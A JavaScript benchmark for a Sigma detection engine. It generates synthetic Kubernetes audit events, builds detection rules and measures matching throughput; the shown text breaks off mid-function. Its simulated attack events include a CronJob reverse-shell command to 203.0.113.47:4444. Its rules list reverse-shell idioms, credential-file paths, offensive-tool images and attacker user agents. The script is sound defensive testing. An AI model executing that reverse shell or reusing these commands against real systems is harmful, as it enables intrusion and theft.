// Sigma engine throughput benchmark: `npm run build && node bench/sigma-bench.mjs`.
//
// Generates a deterministic (seeded) stream of realistic Kubernetes audit events in memory,
// serializes them to JSON and parses them back (timed on its own), loads the built-in rule
// pack plus generated rules of the same shapes (exactly 100 rules), and measures
// `ruleSet.test(event)` and `ruleSet.match(event)` throughput on one thread.
//
// Options (environment): BENCH_EVENTS (default 200000), BENCH_SEED (default 1122),
// BENCH_ENFORCE=0 (report only; by default the run exits 1 when test() misses the 200k events/s
// target, or when a rule hit differs from the plain evaluation).
// Output: a markdown table on stdout and bench/out/sigma.json.

import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { performance } from 'node:perf_hooks';
import { loadRuleSources } from '../dist/sigma/index.js';

const HERE = dirname(fileURLToPath(import.meta.url));
const ROOT = join(HERE, '..');
const EVENTS = Number(process.env.BENCH_EVENTS ?? 200_000);
const SEED = Number(process.env.BENCH_SEED ?? 1122);
const TOTAL_RULES = 100;
const TARGET_TEST_EPS = 200_000;

// ---------------------------------------------------------------------------------------------
// Seeded PRNG (mulberry32) and helpers
// ---------------------------------------------------------------------------------------------
function mulberry32(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
let rnd = mulberry32(SEED);
const pick = (a) => a[Math.floor(rnd() * a.length)];
const int = (lo, hi) => lo + Math.floor(rnd() * (hi - lo + 1));
const hex = (n) => {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(rnd() * 16)];
  return s;
};
const uuid = () =>
  `${hex(8)}-${hex(4)}-4${hex(3)}-${'89ab'[Math.floor(rnd() * 4)]}${hex(3)}-${hex(12)}`;
const sample = (a, n) => {
  const copy = [...a];
  const out = [];
  while (out.length < n && copy.length)
    out.push(copy.splice(Math.floor(rnd() * copy.length), 1)[0]);
  return out;
};

// ---------------------------------------------------------------------------------------------
// Realistic audit event generator
// ---------------------------------------------------------------------------------------------
const V = 'v1.30.2 (linux/amd64) kubernetes/39683505';
const NODES = Array.from(
  { length: 24 },
  (_, i) => `ip-10-0-${10 + (i % 8)}-${20 + i * 7}.eu-west-1.compute.internal`,
);
const NAMESPACES = [
  'default',
  'kube-system',
  'shop',
  'payments',
  'analytics',
  'monitoring',
  'logging',
  'ci',
  'argocd',
  'cert-manager',
  'backup',
  'ingress-nginx',
];
const CONTROLLERS = [
  'replicaset-controller',
  'deployment-controller',
  'job-controller',
  'cronjob-controller',
  'daemon-set-controller',
  'endpointslice-controller',
  'namespace-controller',
  'generic-garbage-collector',
  'horizontal-pod-autoscaler',
];
const OPERATORS = [
  [
    'argocd',
    'argocd-application-controller',
    'argocd-application-controller/v2.12.4 (linux/amd64) kubernetes/v0.0.0',
  ],
  [
    'monitoring',
    'kube-state-metrics',
    'kube-state-metrics/v2.13.0 (linux/amd64) kubernetes/v0.0.0',
  ],
  ['monitoring', 'prometheus-k8s', 'Prometheus/2.54.1'],
  [
    'cert-manager',
    'cert-manager',
    'cert-manager-controller/v1.15.3 (linux/amd64) cert-manager/4c8e2d7b',
  ],
  ['kube-system', 'coredns', 'coredns/v1.11.3 (linux/amd64) kubernetes/v0.0.0'],
  [
    'ingress-nginx',
    'ingress-nginx',
    'nginx-ingress-controller/v1.11.2 (linux/amd64) ingress-nginx/46e76e5916813cfca2a9b0bfdc34b69a0000f6b9',
  ],
  ['logging', 'fluent-bit', 'fluent-bit/3.1.9'],
];
const HUMANS = [
  'oidc:jane.doe@example.com',
  'oidc:li.wei@example.com',
  'oidc:a.okafor@example.com',
  'kubernetes-admin',
];
const READ_RESOURCES = [
  ['pods', ''],
  ['pods', ''],
  ['pods', ''],
  ['configmaps', ''],
  ['services', ''],
  ['endpoints', ''],
  ['secrets', ''],
  ['nodes', ''],
  ['namespaces', ''],
  ['serviceaccounts', ''],
  ['deployments', 'apps'],
  ['replicasets', 'apps'],
  ['daemonsets', 'apps'],
  ['statefulsets', 'apps'],
  ['jobs', 'batch'],
  ['cronjobs', 'batch'],
  ['endpointslices', 'discovery.k8s.io'],
  ['ingresses', 'networking.k8s.io'],
  ['leases', 'coordination.k8s.io'],
];
const CLUSTER_SCOPED = new Set(['nodes', 'namespaces']);
const IMAGES = [
  'nginx:1.27',
  'ghcr.io/example/shop-api:4.12.0',
  'ghcr.io/example/payments:2.14.0',
  'postgres:16.4',
  'redis:7.4',
  'alpine:3.20',
  'busybox:1.36',
  'python:3.12-slim',
  'registry.k8s.io/pause:3.9',
  'docker.io/grafana/grafana:11.2.0',
];
const COMMANDS = [
  ['/scripts/backup.sh'],
  ['/app/migrate', 'up'],
  ['python', '-m', 'reports.nightly'],
  ['sh', '-c', 'pg_dump -h postgres.payments.svc payments | gzip > /backup/db.sql.gz'],
  ['sh', '-c', 'curl -fsS -X POST http://shop-api.shop.svc:8080/internal/cleanup'],
  ['/bin/sh', '-c', 'rsync -az -e "ssh -i /keys/id" /data/ backup@10.0.50.5:/srv/'],
];

let clockMs = Date.parse('2026-11-22T00:00:00Z');
function stamps() {
  clockMs += int(0, 3);
  const t = new Date(clockMs).toISOString();
  return [t.replace('Z', `${int(100, 999)}Z`), t.replace('Z', `${int(100, 999)}Z`)];
}
function saUser(ns, name) {
  return {
    username: `system:serviceaccount:${ns}:${name}`,
    uid: uuid(),
    groups: ['system:serviceaccounts', `system:serviceaccounts:${ns}`, 'system:authenticated'],
    extra: {
      'authentication.kubernetes.io/credential-id': [`JTI=${uuid()}`],
      'authentication.kubernetes.io/node-name': [pick(NODES)],
      'authentication.kubernetes.io/pod-name': [`${name}-${hex(10)}-${hex(5)}`],
      'authentication.kubernetes.io/pod-uid': [uuid()],
    },
  };
}
const controller = (c) => ({
  username: `system:serviceaccount:kube-system:${c}`,
  uid: uuid(),
  groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'],
});
const nodeUser = (n) => ({
  username: `system:node:${n}`,
  groups: ['system:nodes', 'system:authenticated'],
});
const nodeIp = (n) => n.replace(/^ip-(\d+)-(\d+)-(\d+)-(\d+)\..*$/, '$1.$2.$3.$4');
function human(name) {
  return name.startsWith('oidc:')
    ? { username: name, groups: ['oidc:platform-team', 'system:authenticated'] }
    : { username: name, groups: ['kubeadm:cluster-admins', 'system:authenticated'] };
}

function event({
  verb,
  resource,
  group = '',
  ns,
  name,
  subresource,
  user,
  ua,
  ip,
  code,
  level = 'Metadata',
  query,
  req,
  resp,
}) {
  const base = group ? `/apis/${group}/v1` : '/api/v1';
  const nsPart = ns && !CLUSTER_SCOPED.has(resource) ? `/namespaces/${ns}` : '';
  const withName = name && !['create', 'list', 'watch'].includes(verb);
  let uri = `${base}${nsPart}/${resource}${withName ? `/${name}` : ''}${subresource ? `/${subresource}` : ''}`;
  if (query) uri += `?${query}`;
  const [recv, st] = stamps();
  const objectRef = { resource };
  if (nsPart) objectRef.namespace = ns;
  if (name) objectRef.name = name;
  if (group) objectRef.apiGroup = group;
  objectRef.apiVersion = 'v1';
  if (subresource) objectRef.subresource = subresource;
  const status = code ?? (verb === 'create' ? 201 : 200);
  const e = {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level,
    auditID: uuid(),
    stage: 'ResponseComplete',
    requestURI: uri,
    verb,
    user,
    sourceIPs: [ip],
    userAgent: ua,
    objectRef,
    responseStatus: { metadata: {}, code: status },
  };
  if (req) e.requestObject = req;
  if (resp) e.responseObject = resp;
  e.requestReceivedTimestamp = recv;
  e.stageTimestamp = st;
  e.annotations = {
    'authorization.k8s.io/decision': status === 403 ? 'forbid' : 'allow',
    'authorization.k8s.io/reason':
      status === 403
        ? ''
        : 'RBAC: allowed by ClusterRoleBinding "x" of ClusterRole "x" to ServiceAccount "x/y"',
  };
  return e;
}

function readEvent() {
  const verb = rnd() < 0.35 ? 'get' : rnd() < 0.6 ? 'list' : 'watch';
  const [resource, group] = pick(READ_RESOURCES);
  const ns = CLUSTER_SCOPED.has(resource)
    ? undefined
    : rnd() < 0.2 && verb !== 'get'
      ? undefined
      : pick(NAMESPACES);
  const who = rnd();
  let user, ua, ip;
  if (who < 0.35) {
    const n = pick(NODES);
    [user, ua, ip] = [nodeUser(n), `kubelet/${V}`, nodeIp(n)];
  } else if (who < 0.6) {
    const c = pick(CONTROLLERS);
    [user, ua, ip] = [
      controller(c),
      `kube-controller-manager/${V}/system:serviceaccount:kube-system:${c}`,
      '10.0.1.10',
    ];
  } else if (who < 0.9) {
    const [ons, oname, oua] = pick(OPERATORS);
    [user, ua, ip] = [saUser(ons, oname), oua, `10.0.${int(32, 40)}.${int(2, 250)}`];
  } else {
    [user, ua, ip] = [human(pick(HUMANS)), `kubectl/${V}`, `10.0.12.${int(2, 250)}`];
  }
  const query =
    verb === 'watch'
      ? `allowWatchBookmarks=true&resourceVersion=${int(1e6, 9e6)}&timeout=${int(5, 9)}m${int(0, 59)}s&timeoutSeconds=${int(300, 590)}&watch=true`
      : verb === 'list'
        ? 'limit=500&resourceVersion=0'
        : undefined;
  return event({
    verb,
    resource,
    group,
    ns,
    name: verb === 'get' ? `${resource.slice(0, -1)}-${hex(6)}` : undefined,
    user,
    ua,
    ip,
    query,
  });
}
function leaseEvent() {
  const r = rnd();
  if (r < 0.15)
    return event({
      verb: 'update',
      resource: 'leases',
      group: 'coordination.k8s.io',
      ns: 'kube-system',
      name: 'kube-controller-manager',
      user: { username: 'system:kube-controller-manager', groups: ['system:authenticated'] },
      ua: `kube-controller-manager/${V}/leader-election`,
      ip: '10.0.1.10',
    });
  if (r < 0.3)
    return event({
      verb: 'update',
      resource: 'leases',
      group: 'coordination.k8s.io',
      ns: 'kube-system',
      name: 'kube-scheduler',
      user: { username: 'system:kube-scheduler', groups: ['system:authenticated'] },
      ua: `kube-scheduler/${V}/leader-election`,
      ip: '10.0.1.10',
    });
  const n = pick(NODES);
  return event({
    verb: 'update',
    resource: 'leases',
    group: 'coordination.k8s.io',
    ns: 'kube-node-lease',
    name: n,
    user: nodeUser(n),
    ua: `kubelet/${V}`,
    ip: nodeIp(n),
  });
}
function coreEvent() {
  const n = pick(NODES);
  const ns = pick(NAMESPACES);
  return event({
    verb: 'create',
    resource: 'events',
    ns,
    name: `${pick(['shop-api', 'payments', 'redis'])}-${hex(9)}-${hex(5)}.${hex(16)}`,
    user: rnd() < 0.7 ? nodeUser(n) : controller(pick(CONTROLLERS)),
    ua: `kubelet/${V}`,
    ip: nodeIp(n),
  });
}
function container() {
  const c = { name: pick(['app', 'main', 'worker', 'job']), image: pick(IMAGES) };
  if (rnd() < 0.6) c.command = pick(COMMANDS);
  c.resources =
    rnd() < 0.5 ? {} : { requests: { cpu: '100m', memory: '128Mi' }, limits: { memory: '256Mi' } };
  c.terminationMessagePath = '/dev/termination-log';
  c.terminationMessagePolicy = 'File';
  c.imagePullPolicy = 'IfNotPresent';
  if (rnd() < 0.3)
    c.securityContext = {
      allowPrivilegeEscalation: false,
      runAsNonRoot: true,
      capabilities: { drop: ['ALL'] },
    };
  if (rnd() < 0.2) c.volumeMounts = [{ name: 'data', mountPath: '/data' }];
  return c;
}
function podSpec(restartPolicy) {
  const s = {};
  if (rnd() < 0.3)
    s.volumes = [{ name: 'data', persistentVolumeClaim: { claimName: `data-${hex(4)}` } }];
  if (rnd() < 0.05) s.volumes = [{ name: 'varlog', hostPath: { path: '/var/log', type: '' } }];
  s.containers = Array.from({ length: rnd() < 0.8 ? 1 : 2 }, container);
  Object.assign(s, {
    restartPolicy,
    terminationGracePeriodSeconds: 30,
    dnsPolicy: 'ClusterFirst',
    serviceAccountName: 'default',
    securityContext: {},
    schedulerName: 'default-scheduler',
  });
  return s;
}
const meta = (name, ns, extra = {}) => ({
  name,
  namespace: ns,
  uid: uuid(),
  resourceVersion: String(int(1e6, 9e6)),
  creationTimestamp: '2026-11-22T00:00:00Z',
  labels: { app: name.split('-')[0] },
  ...extra,
});
function workloadEvent() {
  const r = rnd();
  const ns = pick(NAMESPACES);
  if (r < 0.55) {
    const c = pick([
      'replicaset-controller',
      'job-controller',
      'daemon-set-controller',
      'statefulset-controller',
    ]);
    const name = `${pick(['shop-api', 'payments', 'worker', 'db-backup'])}-${hex(9)}-${hex(5)}`;
    const obj = {
      kind: 'Pod',
      apiVersion: 'v1',
      metadata: meta(name, ns, {
        ownerReferences: [
          {
            apiVersion: 'apps/v1',
            kind: 'ReplicaSet',
            name: name.slice(0, -6),
            uid: uuid(),
            controller: true,
            blockOwnerDeletion: true,
          },
        ],
      }),
      spec: podSpec('Always'),
      status: { phase: 'Pending', qosClass: 'BestEffort' },
    };
    return event({
      verb: 'create',
      resource: 'pods',
      ns,
      user: controller(c),
      ua: `kube-controller-manager/${V}/system:serviceaccount:kube-system:${c}`,
      ip: '10.0.1.10',
      level: 'RequestResponse',
      req: obj,
      resp: obj,
    });
  }
  if (r < 0.85) {
    const name = `${pick(['db-backup', 'report', 'cleanup', 'sitemap'])}-${int(29384000, 29385000)}`;
    const obj = {
      kind: 'Job',
      apiVersion: 'batch/v1',
      metadata: meta(name, ns, {
        ownerReferences: [
          {
            apiVersion: 'batch/v1',
            kind: 'CronJob',
            name: name.replace(/-\d+$/, ''),
            uid: uuid(),
            controller: true,
            blockOwnerDeletion: true,
          },
        ],
      }),
      spec: {
        parallelism: 1,
        completions: 1,
        backoffLimit: 6,
        template: { metadata: { creationTimestamp: null }, spec: podSpec('OnFailure') },
      },
      status: {},
    };
    return event({
      verb: 'create',
      resource: 'jobs',
      group: 'batch',
      ns,
      user: controller('cronjob-controller'),
      ua: `kube-controller-manager/${V}/system:serviceaccount:kube-system:cronjob-controller`,
      ip: '10.0.1.10',
      level: 'RequestResponse',
      req: obj,
      resp: obj,
    });
  }
  const name = pick(['db-backup', 'nightly-report', 'cleanup', 'sitemap', 'heartbeat']);
  const obj = {
    kind: 'CronJob',
    apiVersion: 'batch/v1',
    metadata: meta(name, ns),
    spec: {
      schedule: pick(['0 2 * * *', '*/15 * * * *', '30 3 * * 0', '*/5 * * * *', '* * * * *']),
      concurrencyPolicy: 'Forbid',
      suspend: false,
      jobTemplate: {
        metadata: { creationTimestamp: null },
        spec: { template: { metadata: { creationTimestamp: null }, spec: podSpec('OnFailure') } },
      },
      successfulJobsHistoryLimit: 3,
      failedJobsHistoryLimit: 1,
    },
    status: {},
  };
  const [ons, oname, oua] = OPERATORS[0];
  return rnd() < 0.5
    ? event({
        verb: 'patch',
        resource: 'cronjobs',
        group: 'batch',
        ns,
        name,
        user: saUser(ons, oname),
        ua: oua,
        ip: '10.0.33.70',
        level: 'RequestResponse',
        query: 'fieldManager=argocd-controller',
        req: obj,
        resp: obj,
      })
    : event({
        verb: 'create',
        resource: 'cronjobs',
        group: 'batch',
        ns,
        user: human(pick(HUMANS)),
        ua: `kubectl/${V}`,
        ip: '10.0.12.41',
        level: 'RequestResponse',
        query: 'fieldManager=kubectl-client-side-apply&fieldValidation=Strict',
        req: obj,
        resp: obj,
      });
}
function miscEvent() {
  const r = rnd();
  const ns = pick(NAMESPACES);
  if (r < 0.35) {
    const [ons, oname, oua] = pick(OPERATORS);
    return event({
      verb: 'update',
      resource: 'configmaps',
      ns,
      name: `${oname}-config`,
      user: saUser(ons, oname),
      ua: oua,
      ip: `10.0.33.${int(2, 250)}`,
      level: 'Request',
      req: {
        kind: 'ConfigMap',
        apiVersion: 'v1',
        metadata: meta(`${oname}-config`, ns),
        data: { 'config.yaml': `interval: ${int(10, 60)}s\nlevel: info\n` },
      },
    });
  }
  if (r < 0.65) {
    const n = pick(NODES);
    return event({
      verb: 'get',
      resource: 'secrets',
      ns,
      name: `${pick(['shop-api', 'payments', 'redis'])}-${pick(['db', 'tls', 'token'])}`,
      user: rnd() < 0.7 ? nodeUser(n) : saUser(ns, 'default'),
      ua: `kubelet/${V}`,
      ip: nodeIp(n),
    });
  }
  if (r < 0.85) {
    const name = pick(['shop-api', 'payments', 'worker']);
    return event({
      verb: 'patch',
      resource: 'deployments',
      group: 'apps',
      ns,
      name,
      user: human(pick(HUMANS)),
      ua: `kubectl/${V}`,
      ip: '10.0.12.41',
      level: 'Request',
      query: 'fieldManager=kubectl-rollout',
      req: {
        spec: {
          template: {
            metadata: {
              annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-22T09:14:03Z' },
            },
          },
        },
      },
    });
  }
  const n = pick(NODES);
  return event({
    verb: 'patch',
    resource: 'pods',
    subresource: 'status',
    ns,
    name: `shop-api-${hex(9)}-${hex(5)}`,
    user: nodeUser(n),
    ua: `kubelet/${V}`,
    ip: nodeIp(n),
    level: 'Request',
    req: {
      metadata: { uid: uuid() },
      status: {
        conditions: [{ type: 'Ready', status: 'True', lastTransitionTime: '2026-11-22T09:14:03Z' }],
        phase: 'Running',
      },
    },
  });
}
/** ~0.1% of the stream: attacker activity, so that rules do match. */
function attackEvent() {
  const ns = pick(NAMESPACES);
  const kind = int(0, 3);
  if (kind === 0) {
    const obj = {
      kind: 'CronJob',
      apiVersion: 'batch/v1',
      metadata: { name: 'log-rotate', namespace: ns },
      spec: {
        schedule: '* * * * *',
        jobTemplate: {
          spec: {
            template: {
              spec: {
                containers: [
                  {
                    name: 'x',
                    image: 'alpine:3.20',
                    command: ['/bin/sh', '-c', 'bash -i >& /dev/tcp/203.0.113.47/4444 0>&1'],
                  },
                ],
                restartPolicy: 'OnFailure',
              },
            },
          },
        },
      },
    };
    return event({
      verb: 'create',
      resource: 'cronjobs',
      group: 'batch',
      ns,
      user: human(HUMANS[0]),
      ua: `kubectl/${V}`,
      ip: '10.0.12.41',
      level: 'RequestResponse',
      req: obj,
      resp: obj,
    });
  }
  if (kind === 1)
    return event({
      verb: 'list',
      resource: 'secrets',
      ns,
      user: saUser('ci', 'build-bot'),
      ua: `kubectl/${V}`,
      ip: '203.0.113.47',
    });
  if (kind === 2)
    return event({
      verb: 'create',
      resource: 'pods',
      subresource: 'exec',
      ns: 'kube-system',
      name: 'coredns-7db6d8ff4d-9xw2l',
      user: human(HUMANS[1]),
      ua: `kubectl/${V}`,
      ip: '10.0.12.41',
      code: 101,
    });
  return event({
    verb: 'deletecollection',
    resource: 'events',
    ns,
    user: human(HUMANS[2]),
    ua: `kubectl/${V}`,
    ip: '10.0.12.41',
  });
}
function nextEvent() {
  const r = rnd();
  if (r < 0.6) return readEvent();
  if (r < 0.8) return leaseEvent();
  if (r < 0.88) return coreEvent();
  if (r < 0.92) return workloadEvent();
  if (r < 0.999) return miscEvent();
  return attackEvent();
}

// ---------------------------------------------------------------------------------------------
// Generated rules in the shapes of the built-in pack
// ---------------------------------------------------------------------------------------------
const RESOURCES = [
  'pods',
  'secrets',
  'configmaps',
  'serviceaccounts',
  'deployments',
  'daemonsets',
  'statefulsets',
  'jobs',
  'cronjobs',
  'roles',
  'rolebindings',
  'clusterroles',
  'clusterrolebindings',
  'nodes',
  'namespaces',
  'persistentvolumes',
  'networkpolicies',
  'ingresses',
  'services',
  'endpoints',
  'certificatesigningrequests',
  'tokenreviews',
  'podsecuritypolicies',
  'customresourcedefinitions',
];
const RARE_RESOURCES = [
  'roles',
  'rolebindings',
  'clusterroles',
  'clusterrolebindings',
  'certificatesigningrequests',
  'customresourcedefinitions',
  'validatingadmissionpolicies',
  'priorityclasses',
  'runtimeclasses',
  'storageclasses',
  'csidrivers',
  'apiservices',
  'serviceaccounts',
  'networkpolicies',
];
const WRITE_VERBS = ['create', 'update', 'patch', 'delete', 'deletecollection'];
const VERBS = ['get', 'list', 'watch', 'create', 'update', 'patch', 'delete', 'deletecollection'];
const TOOL_AGENTS = [
  'kube-hunter',
  'peirates',
  'kubeletctl',
  'kubiscan',
  'kdigger',
  'botb',
  'cdk/',
  'deepce',
  'kubestriker',
  'kube-bench',
  'kubescape',
  'trivy',
  'python-requests',
  'OpenAPI-Generator',
  'Go-http-client/1.1',
  'curl/',
  'Wget/',
  'Mozilla/',
  'sqlmap',
  'nmap',
  'masscan',
  'zgrab',
  'nuclei',
  'httpx',
  'ffuf',
  'gobuster',
  'metasploit',
  'impacket',
  'aiohttp',
  'okhttp',
  'axios/',
  'node-fetch',
  'PostmanRuntime',
  'insomnia',
  'k9s',
  'lens',
  'headlamp',
  'octant',
];
const SUSPICIOUS_IMAGES = [
  'xmrig',
  'kinsing',
  'kdevtmpfsi',
  'ngrok',
  'frp',
  'chisel',
  'gost',
  'pwncat',
  'netcat',
  'socat',
  'ncat',
  'nmap',
  'masscan',
  'zgrab',
  'kali',
  'parrotsec',
  'metasploit',
  'empire',
  'sliver',
  'mythic',
  'cobalt',
  'merlin',
  'havoc',
  'bishopfox',
  'impacket',
  'responder',
  'bloodhound',
  'mimikatz',
  'linpeas',
  'pspy',
  'deepce',
  'cdk',
  'botb',
  'peirates',
];
const CMD_KEYWORDS = [
  '/dev/tcp/',
  'nc -e',
  'ncat -e',
  'socat exec:',
  'mkfifo',
  'bash -i',
  'python -c',
  'perl -e',
  'ruby -rsocket',
  'php -r',
  'telnet',
  'base64 -d',
  'xxd -r',
  'openssl enc',
  'chmod +x',
  'chmod 777',
  'wget -q',
  'curl -s',
  'curl -fsSL',
  '| sh',
  '| bash',
  'nohup',
  'disown',
  'setsid',
  'crontab',
  '/etc/cron',
  '/etc/shadow',
  '/etc/passwd',
  'authorized_keys',
  'id_rsa',
  'nsenter',
  'chroot',
  'mount -t',
  'insmod',
  'modprobe',
  'iptables -F',
  'history -c',
  'unset HISTFILE',
  'kill -9 -1',
  'xmrig',
  'stratum+tcp',
];
const PATHS = {
  pods: 'requestObject.spec.containers',
  jobs: 'requestObject.spec.template.spec.containers',
  cronjobs: 'requestObject.spec.jobTemplate.spec.template.spec.containers',
};
const CIDRS = [
  '10.0.0.0/8',
  '172.16.0.0/12',
  '192.168.0.0/16',
  '100.64.0.0/10',
  '127.0.0.0/8',
  'fc00::/7',
  '::1/128',
];

const q = (s) => `'${String(s).replace(/'/g, "''")}'`;
const list = (vals, indent) => vals.map((v) => `${' '.repeat(indent)}- ${q(v)}`).join('\n');
function header(i, title, tags) {
  return `title: ${title} (generated ${i})
id: ${uuid()}
status: experimental
description: Generated benchmark rule ${i}.
author: cronwarden-bench
date: 2026-11-22
tags:
${tags.map((t) => `  - ${t}`).join('\n')}
logsource:
  product: kubernetes
  service: audit
level: ${pick(['low', 'medium', 'high'])}
falsepositives:
  - Benchmark only
`;
}
const shapes = [
  // resource + verbs, non-system users only
  (
    i,
  ) => `${header(i, 'Sensitive resource change', ['attack.persistence', 'attack.t1098'])}detection:
  selection:
    objectRef.resource:
${list(sample(RARE_RESOURCES, int(1, 4)), 6)}
    verb:
${list(sample(WRITE_VERBS, int(1, 3)), 6)}
  filter_system:
    user.username|startswith:
${list(['system:kube-', 'system:node:', 'system:serviceaccount:kube-system:', 'system:apiserver'], 6)}
  condition: selection and not filter_system
`,
  // offensive tool user agents, contains list of 10-30 values
  (
    i,
  ) => `${header(i, 'Offensive tooling user agent', ['attack.discovery', 'attack.t1613'])}detection:
  selection:
    userAgent|contains:
${list(sample(TOOL_AGENTS, int(10, 30)), 6)}
  filter_health:
    requestURI|startswith:
${list(['/healthz', '/livez', '/readyz', '/version'], 6)}
  condition: selection and not filter_health
`,
  // suspicious images in one of the workload shapes
  (i) => {
    const res = pick(Object.keys(PATHS));
    return `${header(i, `Suspicious image in ${res}`, ['attack.execution', 'attack.t1610'])}detection:
  selection:
    objectRef.resource: ${res}
    verb:
      - create
      - update
      - patch
    ${PATHS[res]}.image|contains:
${list(sample(SUSPICIOUS_IMAGES, int(10, 25)), 6)}
  condition: selection
`;
  },
  // command-line keywords, 1 of selection*
  (i) => {
    const res = pick(Object.keys(PATHS));
    return `${header(i, `Command keywords in ${res}`, ['attack.execution', 'attack.t1053.007'])}detection:
  selection_resource:
    objectRef.resource: ${res}
    verb: create
  keywords_command:
    ${PATHS[res]}.command|contains:
${list(sample(CMD_KEYWORDS, int(10, 30)), 6)}
  keywords_args:
    ${PATHS[res]}.args|contains:
${list(sample(CMD_KEYWORDS, int(10, 30)), 6)}
  filter_controllers:
    user.username|startswith: 'system:serviceaccount:kube-system:'
  condition: selection_resource and 1 of keywords_* and not filter_controllers
`;
  },
  // namespace-scoped writes by unexpected users
  (
    i,
  ) => `${header(i, 'Write in a protected namespace', ['attack.persistence', 'attack.t1053.007'])}detection:
  selection:
    objectRef.namespace:
${list(sample(NAMESPACES, int(1, 3)), 6)}
    objectRef.resource:
${list(sample(RESOURCES, int(2, 5)), 6)}
    verb:
${list(['create', 'update', 'patch', 'delete'], 6)}
  filter_users:
    user.username:
${list(sample(['system:serviceaccount:argocd:argocd-application-controller', 'system:serviceaccount:flux-system:kustomize-controller', 'kubernetes-admin', 'system:kube-controller-manager', 'system:serviceaccount:kube-system:generic-garbage-collector'], int(2, 4)), 6)}
  condition: selection and not filter_users
`,
  // regex on the request URI or object name
  (
    i,
  ) => `${header(i, 'Suspicious object name', ['attack.defense-evasion', 'attack.t1036'])}detection:
  selection:
    verb: create
    objectRef.resource:
${list(sample(RESOURCES, int(1, 3)), 6)}
  name_regex:
    - objectRef.name|re: '^(kube|system|calico|coredns)-[a-z]{${int(3, 6)},}-(${sample(['cleanup', 'sync', 'update', 'helper', 'agent'], 2).join('|')})$'
    - requestURI|re: '/namespaces/kube-(system|public)/(${sample(RESOURCES, 3).join('|')})/[a-z0-9-]*(tmp|test|debug)'
  condition: selection and name_regex
`,
  // service account from outside private networks
  (
    i,
  ) => `${header(i, 'Service account request from public address', ['attack.credential-access', 'attack.t1528'])}detection:
  selection:
    user.username|startswith: 'system:serviceaccount:${pick(NAMESPACES)}:'
    verb:
${list(sample(VERBS, int(2, 4)), 6)}
  filter_private:
    sourceIPs|cidr:
${list(CIDRS, 6)}
  condition: selection and not filter_private
`,
  // denied requests on sensitive resources
  (
    i,
  ) => `${header(i, 'Denied access to sensitive resource', ['attack.discovery', 'attack.t1613'])}detection:
  selection:
    annotations.authorization.k8s.io/decision: forbid
    objectRef.resource:
${list(sample(RESOURCES, int(2, 6)), 6)}
  selection_code:
    responseStatus.code:
      - 401
      - 403
  condition: all of selection*
`,
];

function generatedRules(n) {
  const out = [];
  for (let i = 0; i < n; i++)
    out.push({
      file: `generated/rule-${String(i).padStart(3, '0')}.yml`,
      text: shapes[i % shapes.length](i),
    });
  return out;
}

// ---------------------------------------------------------------------------------------------
// Measurement
// ---------------------------------------------------------------------------------------------
const gcIfExposed = () => globalThis.gc?.();
const mb = (b) => Math.round((b / 1048576) * 10) / 10;

function timeIt(fn) {
  const t0 = performance.now();
  const r = fn();
  return [performance.now() - t0, r];
}

const RULE_DIR = join(ROOT, 'rules');
function builtinSources(dir = RULE_DIR) {
  const out = [];
  for (const entry of readdirSync(dir, { withFileTypes: true }).sort((a, b) =>
    a.name.localeCompare(b.name),
  )) {
    const p = join(dir, entry.name);
    if (entry.isDirectory()) out.push(...builtinSources(p));
    else if (/\.ya?ml$/.test(entry.name)) out.push({ file: p, text: readFileSync(p, 'utf8') });
  }
  return out;
}

function main() {
  const started = performance.now();
  const heapStart = process.memoryUsage().heapUsed;

  // rules
  const builtin = builtinSources();
  const sources = [...builtin, ...generatedRules(TOTAL_RULES - builtin.length)];
  loadRuleSources(sources, { strict: true }); // warm the loader's own code paths once
  const loadRuns = [];
  let load;
  for (let i = 0; i < 3; i++) {
    const [ms, l] = timeIt(() => loadRuleSources(sources, { strict: true }));
    loadRuns.push(ms);
    load = l;
  }
  const { ruleSet } = load;
  if (ruleSet.rules.length !== TOTAL_RULES)
    throw new Error(`expected ${TOTAL_RULES} rules, got ${ruleSet.rules.length}`);
  const builtinRuns = [0, 1, 2].map(
    () => timeIt(() => loadRuleSources(builtin, { strict: true }))[0],
  );
  const coldMs = Math.min(...builtinRuns);

  // events: generate, serialize, parse back
  const [genMs, lines] = timeIt(() => {
    const a = new Array(EVENTS);
    for (let i = 0; i < EVENTS; i++) a[i] = JSON.stringify(nextEvent());
    return a;
  });
  const bytes = lines.reduce((s, l) => s + l.length, 0);
  gcIfExposed();
  const [parseMs, events] = timeIt(() => lines.map((l) => JSON.parse(l)));
  const heapAfterEvents = process.memoryUsage().heapUsed;

  const runTest = () => {
    let hits = 0;
    for (let i = 0; i < events.length; i++) hits += ruleSet.test(events[i]).length;
    return hits;
  };
  const runMatch = () => {
    let hits = 0;
    for (let i = 0; i < events.length; i++) hits += ruleSet.match(events[i]).length;
    return hits;
  };

  // warm up on a slice, then best of 3 full passes
  for (let i = 0; i < Math.min(20_000, events.length); i++) ruleSet.test(events[i]);
  const testRuns = [];
  let testHits = 0;
  for (let r = 0; r < 3; r++) {
    const [ms, h] = timeIt(runTest);
    testRuns.push(ms);
    testHits = h;
  }
  for (let i = 0; i < Math.min(20_000, events.length); i++) ruleSet.match(events[i]);
  const matchRuns = [];
  let matchHits = 0;
  for (let r = 0; r < 3; r++) {
    const [ms, h] = timeIt(runMatch);
    matchRuns.push(ms);
    matchHits = h;
  }
  if (testHits !== matchHits)
    throw new Error(`test() found ${testHits} hits but match() ${matchHits}`);

  // The same rules without the candidate index: every rule on every event. It must find the
  // same hits (the index may only skip rules that cannot match), and shows what the index buys.
  const plain = loadRuleSources(sources, { strict: true, index: false }).ruleSet;
  for (let i = 0; i < Math.min(20_000, events.length); i++) plain.test(events[i]);
  const [plainMs, plainHits] = timeIt(() => {
    let hits = 0;
    for (let i = 0; i < events.length; i++) {
      const a = ruleSet.test(events[i]);
      const b = plain.test(events[i]);
      if (a.length !== b.length || a.some((x, k) => x !== b[k])) {
